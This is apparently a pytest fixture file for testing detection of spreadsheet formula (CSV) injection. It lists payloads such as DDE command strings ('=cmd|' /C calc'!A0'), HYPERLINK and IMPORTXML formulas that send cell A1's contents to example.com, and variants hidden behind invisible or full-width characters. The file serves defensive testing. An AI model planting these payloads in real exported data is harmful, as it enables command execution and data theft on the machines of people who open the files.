"""Texts that spreadsheets would run, and texts that break programs."""

import json
from pathlib import Path

import pytest

CORPORA = Path(__file__).resolve().parents[2].parent / "shared" / "corpora"
OWN = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   -2+3",
    "\u00a0=1+1",
    "\u2003=1+1",
    "\u200b=1+1",
    "\u2060=1+1",
    "\ufeff=1+1",
    "\x0b=1+1",
    "\x00=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("http://example.com/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
STARTS = set("=+-@＝＋－＠\t\r\n")


@pytest.fixture(scope="session", params=["own", "corpus"])
def payloads(request):
    if request.param == "own":
        return list(OWN)
    path = CORPORA / "csv-injection" / "Intruder" / "csv-payload.txt"
    if not path.exists():
        pytest.skip("the corpus of formula payloads is not here")
    return [line for line in path.read_text(encoding="utf-8").splitlines() if line]


@pytest.fixture(scope="session")
def naughty():
    path = CORPORA / "blns" / "blns.json"
    if not path.exists():
        pytest.skip("the list of naughty strings is not here")
    return json.loads(path.read_text(encoding="utf-8"))


@pytest.fixture(scope="session")
def starts_a_formula():
    """Whether a spreadsheet might run a cell: by its first character, what cannot be seen skipped."""

    def check(text: str) -> bool:
        seen = next((c for c in text if c.isprintable() and c != " "), "")
        return text[:1] in STARTS or seen in STARTS

    return check
